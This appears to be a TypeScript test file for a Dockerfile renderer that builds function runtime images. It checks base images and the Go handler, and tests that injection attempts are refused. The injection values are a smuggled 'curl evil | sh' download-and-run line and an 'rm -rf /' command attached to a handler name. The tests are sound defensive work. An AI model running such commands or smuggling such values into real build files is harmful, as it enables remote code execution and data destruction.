import * as fs from 'node:fs';
import * as path from 'node:path';

import type { Runtime } from '../../../contract';
import type { LambdaFunctionSpec } from '../api';

import { DockerfileError, renderDockerfile } from './dockerfile';

const template = (language: Runtime) =>
  fs.readFileSync(path.resolve(__dirname, '../../runtimes', language, 'Dockerfile'), 'utf8');
const spec = (runtime: Partial<LambdaFunctionSpec['runtime']>): LambdaFunctionSpec => ({
  source: { inline: { code: 'x' } },
  runtime: { language: 'nodejs', version: '20', ...runtime },
});
const render = (runtime: Partial<LambdaFunctionSpec['runtime']>) =>
  renderDockerfile(template(runtime.language ?? 'nodejs'), spec(runtime));

test("each runtime's template gets the base image of the spec's version (and Go its exported function)", () => {
  expect(render({})).toMatch(/^ARG BASE_IMAGE=node:20-alpine$/m);
  expect(render({ language: 'python', version: '3.12' })).toMatch(/^ARG BASE_IMAGE=python:3\.12-alpine$/m);
  const go = render({ language: 'go', version: '1.22', handler: 'main.Handle' });
  expect(go).toMatch(/^ARG BASE_IMAGE=golang:1\.22-alpine$/m);
  expect(go).toMatch(/^ARG LAMBDA_HANDLER=Handle$/m);
  for (const file of [render({}), go]) {
    expect(file).toMatch(/^USER 65532:65532$/m);
  }
});

test('values that could inject into the Dockerfile are refused, whatever the CRD let through', () => {
  expect(() => render({ version: '20\nRUN curl evil | sh' })).toThrow(DockerfileError);
  expect(() => render({ version: '20-alpine AS x' })).toThrow(DockerfileError);
  expect(() => render({ language: 'go', version: '1.22', handler: 'main.handle; rm -rf /' })).toThrow(DockerfileError);
  expect(() => render({ language: 'go', version: '1.22', handler: 'main.lowercase' })).toThrow(/exported function/);
  expect(() => renderDockerfile('FROM scratch\n', spec({}))).toThrow(/ARG BASE_IMAGE/);
});
